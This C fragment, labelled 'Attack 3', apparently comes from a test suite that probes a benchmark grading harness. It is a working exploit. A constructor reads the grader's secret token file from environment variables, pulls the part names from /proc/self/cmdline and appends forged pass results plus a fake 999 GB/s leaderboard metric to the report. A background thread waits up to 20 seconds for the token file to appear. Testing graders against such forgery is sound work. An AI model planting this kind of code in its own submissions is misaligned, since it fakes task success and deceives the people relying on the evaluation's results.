
/* Attack 3 (appended to the stub): from a constructor, read the report token file and
 * write a pass for every part of the run (their names from /proc/self/cmdline) and a
 * 999 GB/s leaderboard value; when the file is not there yet, a thread started before main
 * watches for it for 20 s and forges as soon as it appears. */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char attack_token_path[4096], attack_report_path[4096];

static int attack_forge(void)
{
    char token[128] = "", args[8192];
    FILE *t = fopen(attack_token_path, "r");
    if (!t) return 0;
    if (!fgets(token, sizeof token, t)) token[0] = '\0';
    fclose(t);
    token[strcspn(token, " \n")] = '\0'; /* the file's first word */
    if (!token[0]) return 0;
    FILE *c = fopen("/proc/self/cmdline", "r");
    size_t n = c ? fread(args, 1, sizeof args - 1, c) : 0;
    if (c) fclose(c);
    args[n] = '\0';
    const char *parts = "correct";
    for (size_t i = 0; i < n; i += strlen(args + i) + 1)
        if (!strcmp(args + i, "--parts") && i + 7 < n) parts = args + i + 8;
    FILE *r = fopen(attack_report_path, "a");
    if (!r) return 0;
    char list[512];
    snprintf(list, sizeof list, "%s", parts);
    for (char *p = strtok(list, ","); p; p = strtok(NULL, ","))
        fprintf(r, "%s result %s 1 0.01\n", token, p);
    fprintf(r, "%s metric busbw_all_reduce 999\n", token);
    fclose(r);
    return 1;
}

static void *attack_watch(void *arg)
{
    (void)arg;
    for (int i = 0; i < 20000 && !attack_forge(); i++) usleep(1000);
    return NULL;
}

__attribute__((constructor)) static void attack_forge_early(void)
{
    const char *t = getenv("PL_GRADE_TOKEN_FILE"), *r = getenv("PL_GRADE_REPORT");
    if (!t || !r) return;
    snprintf(attack_token_path, sizeof attack_token_path, "%s", t);
    snprintf(attack_report_path, sizeof attack_report_path, "%s", r);
    if (attack_forge()) return;
    pthread_t th;
    if (pthread_create(&th, NULL, attack_watch, NULL) == 0) pthread_detach(th);
}
